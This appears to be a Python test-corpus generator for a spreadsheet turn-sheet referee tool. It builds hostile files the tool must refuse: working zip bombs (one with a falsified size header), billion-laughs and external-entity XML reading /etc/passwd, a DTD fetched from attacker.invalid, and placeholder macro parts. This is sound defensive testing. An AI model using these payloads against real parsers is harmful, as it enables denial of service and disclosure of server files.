"""The hostile-input corpus: every kind of broken or malicious file a referee may be sent.

Run ``python tests/corpus/make_corpus.py OUT`` to write the corpus into ``OUT`` (a game folder
``OUT/game`` the cases are checked against, the cases in ``OUT/cases/`` and their expectations
in ``OUT/cases.json``); `tests/test_corpus.py` builds it the same way into a temporary folder,
so nothing large is ever committed and the corpus is always what this script makes.

Each case is a `Case`: how to build the file, which command judges it (``check`` for a sheet
file, ``intake`` for an e-mail), the exit code it must give and words the message must hold.
Genuine sheets carry the game's token, which depends on the game's secret, so the cases are
rebuilt with their game every time; everything else is deterministic.

The threats are grouped as in ``docs/security.md``: format, size, xml, macro, cell, identity,
structure, mail.  See ``tests/corpus/README.md``.
"""

from __future__ import annotations

import io
import json
import random
import re
import shutil
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import openpyxl

from refassist.store.game import Game
from refassist.rulesets import RULESETS, find_ruleset
from refassist.rulesets.base import PlayerSetup
from refassist.turns import resolve_game
from refassist.store.turnsheets import sheet_filename, write_sheets

PLAYERS = ("Ann", "Bob", "Cleo")
GAME_SEED = 11
SECTOR_SEED = 42
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
XLSX_TYPE = ("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet")
MB = 1024 * 1024


# --------------------------------------------------------------------------------------------
# The game the cases are judged against
# --------------------------------------------------------------------------------------------


@dataclass
class Context:
    """What the builders need: the game, genuine sheets, and facts of the state."""

    game: Game
    step: str
    sheets: dict[str, Path]  # genuine sheets of the current step, by player
    last_week: Path  # the first player's genuine sheet of the step before
    other_game: Path  # the first player's genuine sheet of another game
    homes: dict[str, str]  # each player's homeworld hex (Fifth Millennium only)
    near: dict[str, str]  # a system next to each homeworld (Fifth Millennium only)
    first: str = "Ann"  # the player whose sheet the cases are made from
    second: str = "Bob"  # another player of the game
    input_cell: str = "B11"  # the first cell of the Orders page a player types into


def make_game(out: Path) -> Context:
    """A 3-player game resolved once (so last week's sheets exist), and another game."""
    ruleset = find_ruleset("fifth-millennium")
    setups = [PlayerSetup(p, f"{p.lower()}@example.com") for p in PLAYERS]
    game = Game.create(
        out / "game",
        ruleset,
        setups,
        seed=GAME_SEED,
        generate_seed=SECTOR_SEED,
        assign_homeworlds=True,
        name="Corpus",
    )
    first = write_sheets(game, game.load_state())
    keep = out / "work"
    keep.mkdir(parents=True, exist_ok=True)
    last_week = keep / "Ann-last-week.xlsx"
    shutil.copyfile(first[0], last_week)
    resolve_game(game, force=True)
    state = game.load_state()
    step = game.step(state).key
    sheets = {p: game.outbox(step) / sheet_filename(p) for p in PLAYERS}
    other = Game.create(
        out / "other-game",
        ruleset,
        setups,
        seed=GAME_SEED + 1,
        generate_seed=SECTOR_SEED,
        assign_homeworlds=True,
        name="Another game",
    )
    other_sheet = write_sheets(other, other.load_state())[0]
    homes = {p.name: p.homeworld for p in state.players}
    from refassist.geometry.hexmap import distance

    near = {
        name: min(
            (s.hex for s in state.systems if 0 < distance(home, s.hex) <= 2),
            key=lambda h, home=home: (distance(home, h), h),
        )
        for name, home in homes.items()
    }
    return Context(
        game,
        step,
        sheets,
        last_week,
        other_sheet,
        homes,
        near,
        input_cell=first_input_cell(sheets["Ann"]),
    )


def make_any_game(out: Path, ruleset_name: str) -> Context:
    """A game of any other ruleset, its computer players' first sheets taken in and resolved
    (so last week's sheets exist), and another game of the same rules.  Only what every game
    has is used: its players, its sheets, their Orders page and hidden identity sheet."""
    from refassist.demo import computer_sheets
    from refassist.intake.inbox import intake

    ruleset = find_ruleset(ruleset_name)
    setups = ruleset.demo_players(max(ruleset.min_players, 2))

    def create(folder: Path, name: str, seed: int) -> Game:
        return Game.create(
            folder,
            ruleset,
            setups,
            seed=seed,
            generate_seed=SECTOR_SEED if ruleset.generates_maps else None,
            assign_homeworlds=True,
            name=name,
            # In English whatever the game's own language: the corpus's files and the
            # refusals it expects are written against the English sheet (its "Orders" page).
            language="en",
        )

    game = create(out / "game", "Corpus", GAME_SEED)
    state = game.load_state()
    first = write_sheets(game, state)
    keep = out / "work"
    keep.mkdir(parents=True, exist_ok=True)
    last_week = keep / "first-last-week.xlsx"
    shutil.copyfile(first[0], last_week)
    intake(game, computer_sheets(game, state, GAME_SEED))
    resolve_game(game, force=True)
    state = game.load_state()
    step = game.step(state)
    names = list(step.expects)
    sheets = {p: game.outbox(step.key) / sheet_filename(p) for p in names}
    if len(names) == 1:
        # Players take turns: the other player's sheet is the one of the step before.
        other_player = next(p for p in ruleset.players(state) if p != names[0])
        earlier = {p.stem: p for p in first}
        kept = keep / f"earlier-{earlier[other_player].name}"
        shutil.copyfile(earlier[other_player], kept)
        sheets[other_player] = kept
        names.append(other_player)
    other = create(out / "other-game", "Another game", GAME_SEED + 1)
    other_sheet = write_sheets(other, other.load_state())[0]
    return Context(
        game,
        step.key,
        sheets,
        last_week,
        other_sheet,
        {},
        {},
        first=names[0],
        second=names[1],
        input_cell=first_input_cell(sheets[names[0]]),
    )


def first_input_cell(sheet: Path) -> str:
    """The first unlocked cell of a sheet's Orders page: where a player types first."""
    ws = openpyxl.load_workbook(sheet)["Orders"]
    for row in ws.iter_rows():
        for cell in row:
            if cell.protection.locked is False:
                return str(cell.coordinate)
    raise ValueError(f"{sheet.name} has no input cell on its Orders page")


# --------------------------------------------------------------------------------------------
# Zip and XML helpers
# --------------------------------------------------------------------------------------------


def read_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def write_parts(target: Path, parts: dict[str, bytes], level: int = 6) -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return target


def sheet_part(parts: dict[str, bytes], title: str) -> str:
    """The zip member holding the worksheet called ``title``."""
    workbook = parts["xl/workbook.xml"].decode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    for m in re.finditer(r"<sheet\b[^>]*>", workbook):
        tag = m.group(0)
        name = re.search(r'name="([^"]*)"', tag)
        rid = re.search(r'r:id="([^"]*)"', tag)
        if name and rid and name.group(1) == title:
            target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="([^"]*)"', rels) or re.search(
                rf'Target="([^"]*)"[^>]*Id="{rid.group(1)}"', rels
            )
            if target:
                found = target.group(1).lstrip("/")
                return found if found.startswith("xl/") else "xl/" + found
    raise KeyError(title)


def set_cell(xml: str, ref: str, body: str, kind: str | None = None) -> str:
    """Replace cell ``ref`` of a worksheet's XML with ``body`` (``<v>..</v>``, ``<f>..</f>``)."""
    pattern = re.compile(rf'<c r="{ref}"(?P<attrs>[^>]*?)(?:/>|>.*?</c>)', re.S)
    match = pattern.search(xml)
    if match is None:
        raise KeyError(ref)
    attrs = re.sub(r'\s+t="[^"]*"', "", match.group("attrs")).rstrip("/")
    kind_attr = f' t="{kind}"' if kind else ""
    return xml[: match.start()] + f'<c r="{ref}"{attrs}{kind_attr}>{body}</c>' + xml[match.end() :]


def edit_orders_xml(source: Path, target: Path, edit: Callable[[str], str]) -> Path:
    """Copy a sheet, changing the XML of its Orders worksheet."""
    parts = read_parts(source)
    name = sheet_part(parts, "Orders")
    parts[name] = edit(parts[name].decode("utf-8")).encode("utf-8")
    return write_parts(target, parts)


def inline(text: str) -> str:
    return f"<is><t>{_xml_escape(text)}</t></is>"


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def edit_cells(source: Path, target: Path, values: dict[str, object]) -> Path:
    """Copy a sheet, typing ``values`` into Orders cells with openpyxl, as a player would."""
    wb = openpyxl.load_workbook(source)
    ws = wb["Orders"]
    for ref, value in values.items():
        ws[ref] = value
        if isinstance(value, str):
            ws[ref].data_type = "s"
    wb.save(target)
    return target


def edit_meta(source: Path, target: Path, changes: dict[str, str]) -> Path:
    """Copy a sheet, changing values of its hidden meta sheet (what a curious player does)."""
    wb = openpyxl.load_workbook(source)
    ws = wb["_meta"]
    for row in ws.iter_rows(min_col=1, max_col=2):
        key = row[0].value
        if key in changes:
            row[1].value = changes[key]
            row[1].data_type = "s"
    wb.save(target)
    return target


def minimal_workbook(sheets: list[tuple[str, str]]) -> dict[str, bytes]:
    """The parts of a bare workbook whose worksheets have the given names and sheetData XML."""
    types = [
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">',
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/>',
    ]
    book = [
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>',
    ]
    rels = [
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">',
    ]
    parts: dict[str, bytes] = {}
    for i, (title, data) in enumerate(sheets, start=1):
        types.append(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        )
        book.append(f'<sheet name="{title}" sheetId="{i}" r:id="rId{i}"/>')
        rels.append(
            f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/'
            f'2006/relationships/worksheet" Target="worksheets/sheet{i}.xml"/>'
        )
        parts[f"xl/worksheets/sheet{i}.xml"] = worksheet_xml(data).encode()
    types.append("</Types>")
    book.append("</sheets></workbook>")
    rels.append("</Relationships>")
    parts["[Content_Types].xml"] = "".join(types).encode()
    parts["_rels/.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    parts["xl/workbook.xml"] = "".join(book).encode()
    parts["xl/_rels/workbook.xml.rels"] = "".join(rels).encode()
    return parts


def worksheet_xml(sheet_data: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{sheet_data}</sheetData></worksheet>"
    )


def streamed_member(
    target: Path,
    parts: dict[str, bytes],
    name: str,
    head: bytes,
    chunk: bytes,
    total: int,
    tail: bytes,
    level: int = 9,
) -> Path:
    """A workbook whose member ``name`` is ``head + chunk*n + tail`` (``total`` bytes), written
    in pieces so that a member of hundreds of MB never sits in memory."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for part, data in parts.items():
            if part != name:
                zf.writestr(part, data)
        info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as fh:
            fh.write(head)
            written = len(head)
            while written < total:
                fh.write(chunk)
                written += len(chunk)
            fh.write(tail)
    return target


def lying_size_member(target: Path, parts: dict[str, bytes], name: str, real: int) -> Path:
    """A workbook whose ``name`` declares 1 kB but whose deflate stream inflates to ``real``
    bytes: a reader that trusts the stream instead of the declaration is bombed."""
    payload = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunks = [payload.compress(b"<x/>" * (MB // 4)) for _ in range(real // MB)]
    chunks.append(payload.flush())
    stream = b"".join(chunks)
    declared = parts[name][:1024]
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for part, data in parts.items():
            zf.writestr(part, declared if part == name else data)
    data = target.read_bytes()
    # Swap the honest compressed bytes of ``name`` for the bomb's, keeping the declared sizes.
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    start = info.header_offset + 30 + len(info.orig_filename.encode()) + len(info.extra)
    honest = data[start : start + info.compress_size]
    assert len(honest) == info.compress_size
    head = data[:start]
    rest = data[start + info.compress_size :]
    shift = len(stream) - info.compress_size
    # Central directory offsets after the member move by ``shift``; rebuild them by patching
    # the central directory records' local-header offsets and the end record's offset.
    new = bytearray(head + stream + rest)
    cd_sig = b"PK\x01\x02"
    end_sig = b"PK\x05\x06"
    end = new.rfind(end_sig)
    cd_offset = int.from_bytes(new[end + 16 : end + 20], "little") + shift
    new[end + 16 : end + 20] = cd_offset.to_bytes(4, "little")
    pos = cd_offset
    while new[pos : pos + 4] == cd_sig:
        name_len = int.from_bytes(new[pos + 28 : pos + 30], "little")
        extra_len = int.from_bytes(new[pos + 30 : pos + 32], "little")
        comment_len = int.from_bytes(new[pos + 32 : pos + 34], "little")
        local = int.from_bytes(new[pos + 42 : pos + 46], "little")
        if local > info.header_offset:
            new[pos + 42 : pos + 46] = (local + shift).to_bytes(4, "little")
        if new[pos + 46 : pos + 46 + name_len].decode() == name:
            new[pos + 20 : pos + 24] = len(stream).to_bytes(4, "little")
        pos += 46 + name_len + extra_len + comment_len
    local_sizes = info.header_offset + 18
    new[local_sizes : local_sizes + 4] = len(stream).to_bytes(4, "little")
    target.write_bytes(bytes(new))
    return target


def ods_bytes() -> bytes:
    """A small but well-formed OpenDocument spreadsheet (what LibreOffice saves by default),
    not made from a turn sheet: one page of orders and no hidden identity sheet."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
            '<office:spreadsheet><table:table table:name="Orders"><table:table-row>'
            "<table:table-cell><text:p>5002 - F3 - 1827 - 1828</text:p></table:table-cell>"
            "</table:table-row></table:table></office:spreadsheet></office:body>"
            "</office:document-content>",
        )
        zf.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
    return buf.getvalue()


def eml(
    sender: str, attachment: bytes | None, filename: str = "orders.xlsx", body: str = "orders"
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "referee@example.invalid"
    msg["Subject"] = "my orders"
    msg["Date"] = format_datetime(datetime(2026, 1, 2, 10, 0).astimezone())
    msg["Message-ID"] = f"<{abs(hash((sender, filename))) % 10**9}@example.com>"
    msg.set_content(body)
    if attachment is not None:
        msg.add_attachment(
            attachment, maintype=XLSX_TYPE[0], subtype=XLSX_TYPE[1], filename=filename
        )
    return bytes(msg)


# --------------------------------------------------------------------------------------------
# The cases
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile or broken input and what refassist must answer.

    ``command`` is ``check`` (``refassist check FILE --game GAME``: must not change the game
    folder at all) or ``intake`` (``refassist intake GAME FILE``: may only record the file
    under ``inbox/`` and write a reply).  ``code`` is the exit code; ``words`` must all appear
    (case-insensitive) in the one error line (code 2), in the problem lines (code 1) or in the
    output (code 0); for intake in the item's line.  ``status`` is the intake status.
    """

    name: str
    threat: str
    description: str
    suffix: str
    code: int
    words: tuple[str, ...]
    build: Callable[[Context, Path], None]
    command: str = "check"
    status: str = ""
    every_game: bool = False  # judged against every game's sheets, not only Fifth Millennium's


CASES: list[Case] = []


def case(
    name: str,
    threat: str,
    description: str,
    code: int,
    *words: str,
    suffix: str = ".xlsx",
    command: str = "check",
    status: str = "",
    every_game: bool = False,
) -> Callable[[Callable[[Context, Path], object]], Callable[[Context, Path], object]]:
    def register(build: Callable[[Context, Path], object]) -> Callable[[Context, Path], object]:
        if any(c.name == name for c in CASES):
            raise ValueError(f"two cases named {name}")
        default = {2: "refused", 1: "problems", 0: "accepted"}[code]
        CASES.append(
            Case(
                name,
                threat,
                description,
                suffix,
                code,
                tuple(words),
                build,
                command,  # type: ignore[arg-type]
                status or default,
                every_game,
            )
        )
        return build

    return register


def ann(ctx: Context) -> Path:
    """The genuine sheet the cases are made from (Ann's in the Fifth Millennium game)."""
    return ctx.sheets[ctx.first]


# -- format: not what it claims to be -----------------------------------------------------------


@case("not-a-zip", "format", "random bytes named .xlsx", 2, "not a spreadsheet")
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(random.Random(1).randbytes(6000))


@case("truncated-zip", "format", "a genuine sheet cut in half in transit", 2, "damaged", every_game=True)
def _(ctx: Context, out: Path) -> None:
    data = ann(ctx).read_bytes()
    out.write_bytes(data[: len(data) // 2])


@case("truncated-header", "format", "only the first 64 bytes of a sheet", 2, "damaged")
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(ann(ctx).read_bytes()[:64])


@case("xls-renamed", "format", "an Excel 97-2003 .xls renamed .xlsx", 2, ".xls", "save it as")
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(OLE2 + bytes(504) + b"Workbook" + bytes(3000))


@case(
    "ods-renamed",
    "format",
    "a home-made .ods (no hidden identity sheet) renamed .xlsx",
    2,
    "not a refassist turn sheet",
)
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(ods_bytes())


@case(
    "ods-as-ods",
    "format",
    "a home-made .ods (no hidden identity sheet) under its own name",
    2,
    "not a refassist turn sheet",
    suffix=".ods",
)
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(ods_bytes())


@case("csv-renamed", "format", "orders typed as CSV and renamed .xlsx", 2, "csv", "save it as")
def _(ctx: Context, out: Path) -> None:
    out.write_text("turn,fleet,from,to\n5002,F3,1827,1828\n", encoding="utf-8")


@case("csv-utf16", "format", "a UTF-16 CSV export with a byte order mark", 2, "csv")
def _(ctx: Context, out: Path) -> None:
    out.write_bytes("turn\tfleet\n5002\tF3\n".encode("utf-16"))


@case("pdf-renamed", "format", "the printed sheet as PDF, renamed .xlsx", 2, "pdf")
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n")


@case("html-renamed", "format", "a web page saved as .xlsx", 2, "web page")
def _(ctx: Context, out: Path) -> None:
    out.write_text("<html><body><table><tr><td>5002</td></tr></table></body></html>")


@case("empty-file", "format", "a 0-byte attachment", 2, "empty")
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(b"")


@case("encrypted", "format", "a password-protected workbook", 2, "password")
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(OLE2 + bytes(200) + "EncryptionInfo".encode("utf-16-le") + bytes(2000))


@case("xlsb-renamed", "format", "an Excel binary workbook renamed .xlsx", 2, ".xlsb")
def _(ctx: Context, out: Path) -> None:
    write_parts(out, {"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x00" * 100})


@case("docx-renamed", "format", "a Word document renamed .xlsx", 2, "word document")
def _(ctx: Context, out: Path) -> None:
    write_parts(out, {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


@case("plain-zip", "format", "a zip of the sheet instead of the sheet", 2, "zip archive")
def _(ctx: Context, out: Path) -> None:
    write_parts(out, {"orders/Ann.xlsx": ann(ctx).read_bytes()})


@case("rtf-renamed", "format", "a rich text document renamed .xlsx", 2, "rich text")
def _(ctx: Context, out: Path) -> None:
    out.write_bytes(b"{\\rtf1\\ansi 5002 F3 1827 1828}")


@case("corrupt-member", "format", "bytes flipped inside a compressed part", 2, "damaged", every_game=True)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    write_parts(out, parts)
    data = bytearray(out.read_bytes())
    with zipfile.ZipFile(out) as zf:
        info = zf.getinfo(sheet_part(parts, "Orders"))
    start = info.header_offset + 30 + len(info.orig_filename.encode()) + 200
    for i in range(start, start + 64):
        data[i] ^= 0xA5
    out.write_bytes(bytes(data))


# -- size: bombs and monsters ---------------------------------------------------------------------


@case(
    "zip-bomb-300mb",
    "size",
    "Orders XML that unpacks to 300 MB (300 kB on disk)",
    2,
    "unpacks to",
    "MB",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    name = sheet_part(parts, "Orders")
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 4000 + b"</t></is></c></row>"
    streamed_member(
        out,
        parts,
        name,
        b"<worksheet><sheetData>",
        row * 256,
        300 * MB,
        b"</sheetData></worksheet>",
    )


@case("zip-bomb-ratio", "size", "a 20 MB part compressed 1000 times", 2, "zip bomb")
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    name = sheet_part(parts, "Orders")
    streamed_member(out, parts, name, b"", b" " * MB, 20 * MB, b"")


@case(
    "zip-bomb-lying-size", "size", "a part that declares 1 kB but inflates to 200 MB", 2, "damaged"
)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    lying_size_member(out, parts, sheet_part(parts, "Orders"), 200 * MB)


@case(
    "million-rows", "size", "a worksheet with 1,000,000 rows (51 MB of XML)", 2, "unpacks to", "MB"
)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    name = sheet_part(parts, "Orders")
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 1_000_001))
    parts[name] = worksheet_xml(rows).encode()
    write_parts(out, parts, level=1)


@case("million-cells-random", "size", "150,000 incompressible numbers in one worksheet", 2, "cells")
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    name = sheet_part(parts, "Orders")
    rng = random.Random(7)
    rows = []
    for _r in range(2_500):
        cells = "".join(f"<c><v>{rng.randrange(10**9)}</v></c>" for _ in range(60))
        rows.append(f"<row>{cells}</row>")
    parts[name] = worksheet_xml("".join(rows)).encode()
    write_parts(out, parts, level=1)


@case(
    "sparse-far-cell", "size", "one cell at XFD1048576, the last cell a sheet can have", 2, "rows"
)
def _(ctx: Context, out: Path) -> None:
    def edit(xml: str) -> str:
        return xml.replace(
            "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        )

    edit_orders_xml(ann(ctx), out, edit)


@case(
    "merge-bomb",
    "size",
    "one merged range over every column of 99,800 rows (an object per cell in openpyxl)",
    2,
    "merges",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    merge = '<mergeCell ref="A200:XFD99999"/>'

    def edit(xml: str) -> str:
        if "<mergeCells" in xml:
            return re.sub(r"<mergeCells( count=\"\d+\")?>", "<mergeCells>" + merge, xml, count=1)
        return xml.replace("</sheetData>", f"</sheetData><mergeCells>{merge}</mergeCells>", 1)

    edit_orders_xml(ann(ctx), out, edit)


@case("thousands-of-sheets", "size", "a workbook with 3,000 worksheets", 2, "parts")
def _(ctx: Context, out: Path) -> None:
    write_parts(out, minimal_workbook([(f"S{i}", "") for i in range(3000)]))


@case(
    "hundreds-of-sheets",
    "size",
    "a workbook with 400 worksheets (under the part limit)",
    2,
    "worksheets",
)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    extra = minimal_workbook([(f"S{i}", "") for i in range(400)])
    for name, data in extra.items():
        if name.startswith("xl/worksheets/"):
            parts[name.replace("sheet", "extra")] = data
    book = parts["xl/workbook.xml"].decode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    sheets = "".join(
        f'<sheet name="S{i}" sheetId="{100 + i}" r:id="rIdX{i}"/>' for i in range(1, 401)
    )
    links = "".join(
        f'<Relationship Id="rIdX{i}" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/worksheet" Target="worksheets/extra{i}.xml"/>'
        for i in range(1, 401)
    )
    parts["xl/workbook.xml"] = book.replace("</sheets>", sheets + "</sheets>").encode()
    parts["xl/_rels/workbook.xml.rels"] = rels.replace(
        "</Relationships>", links + "</Relationships>"
    ).encode()
    write_parts(out, parts)


@case("too-many-parts", "size", "a sheet with 1,500 extra tiny parts", 2, "parts", every_game=True)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    for i in range(1500):
        parts[f"xl/junk/part{i}.bin"] = b"x"
    write_parts(out, parts)


@case("huge-file", "size", "a 21 MB file (an uncompressible picture inside)", 2, "far larger")
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    parts["xl/media/image1.png"] = random.Random(3).randbytes(21 * MB)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


@case("huge-shared-strings", "size", "a 12 MB shared-strings part", 2, "MB")
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    rng = random.Random(5)
    items = "".join(f"<si><t>{rng.randrange(10**12)}</t></si>" for _ in range(600_000))
    parts["xl/sharedStrings.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.'
        f'openxmlformats.org/spreadsheetml/2006/main">{items}</sst>'
    ).encode()
    write_parts(out, parts, level=1)


# -- xml: entity tricks ----------------------------------------------------------------------------


def _with_doctype(ctx: Context, out: Path, part: str, doctype: str, use: str = "") -> None:
    parts = read_parts(ann(ctx))
    name = sheet_part(parts, "Orders") if part == "Orders" else part
    xml = parts[name].decode()
    head, sep, rest = xml.partition("?>")
    if use:
        rest = rest.replace("<sheetData>", f"<sheetData>{use}", 1)
    parts[name] = (head + sep + doctype + rest).encode()
    write_parts(out, parts)


@case(
    "billion-laughs",
    "xml",
    "the billion laughs entity expansion in the Orders XML",
    2,
    "document type",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    _with_doctype(
        ctx,
        out,
        "Orders",
        f"<!DOCTYPE worksheet [{''.join(lol)}]>",
        '<row r="200"><c r="A200" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
    )


@case(
    "external-entity",
    "xml",
    "an external entity reading /etc/passwd into a string",
    2,
    "document type",
    every_game=True,
)
def _(ctx: Context, out: Path) -> None:
    _with_doctype(
        ctx, out, "xl/sharedStrings.xml", '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    )


@case("external-dtd", "xml", "a DTD fetched from the network, in workbook.xml", 2, "document type")
def _(ctx: Context, out: Path) -> None:
    _with_doctype(
        ctx, out, "xl/workbook.xml", '<!DOCTYPE workbook SYSTEM "http://attacker.invalid/evil.dtd">'
    )


@case(
    "doctype-utf16", "xml", "an entity declaration hidden in UTF-16 encoded XML", 2, "document type"
)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    name = sheet_part(parts, "Orders")
    xml = parts[name].decode()
    _, _, rest = xml.partition("?>")
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE worksheet [<!ENTITY a "aaaa">]>' + rest
    parts[name] = text.encode("utf-16")
    write_parts(out, parts)


# -- macro: code that could run ------------------------------------------------------------------


@case("vba-renamed-xlsx", "macro", "a macro-enabled workbook renamed .xlsx", 2, "macro", every_game=True)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
        .replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
            b'vbaProject"/></Types>',
        )
    )
    parts["xl/vbaProject.bin"] = OLE2 + bytes(1024)
    write_parts(out, parts)


@case(
    "vba-as-xlsm",
    "macro",
    "a macro-enabled workbook under its own .xlsm name",
    2,
    "macro",
    suffix=".xlsm",
)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    parts["xl/vbaProject.bin"] = OLE2 + bytes(1024)
    write_parts(out, parts)


@case("vba-hidden-path", "macro", "a vbaProject.bin tucked into xl/media/", 2, "macro")
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    parts["xl/media/VBAPROJECT.BIN"] = OLE2 + bytes(1024)
    write_parts(out, parts)


@case(
    "macro-content-type", "macro", "a macro-enabled content type without the code part", 2, "macro"
)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    write_parts(out, parts)


@case("excel4-macro-sheet", "macro", "an Excel 4.0 (XLM) macro sheet", 2, "macro")
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    parts["xl/macrosheets/sheet1.xml"] = (
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        b"<sheetData/></xm:macrosheet>"
    )
    write_parts(out, parts)


@case(
    "embedded-ole-object", "macro", "an embedded OLE object (a packaged executable)", 2, "embedded"
, every_game=True)
def _(ctx: Context, out: Path) -> None:
    parts = read_parts(ann(ctx))
    parts["xl/embeddings/oleObject1.bin"] = OLE2 + bytes(2048)
    write_parts(out, parts)


# -- cell: what a cell may hold --------------------------------------------------------------------


